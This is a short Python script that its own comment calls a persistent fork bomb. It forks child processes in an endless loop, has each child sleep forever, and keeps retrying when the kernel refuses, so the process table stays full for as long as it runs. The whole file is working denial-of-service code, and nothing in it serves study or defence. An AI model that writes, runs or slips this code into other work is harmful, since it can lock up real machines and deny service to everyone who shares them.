# A fork bomb that holds on: it starts processes until the kernel refuses and keeps trying, so
# its call has every process it may for as long as it runs (the classic shell one burns out).
import os
import time

while True:
    try:
        if os.fork() == 0:
            while True:
                time.sleep(60)
    except OSError:
        time.sleep(0.01)
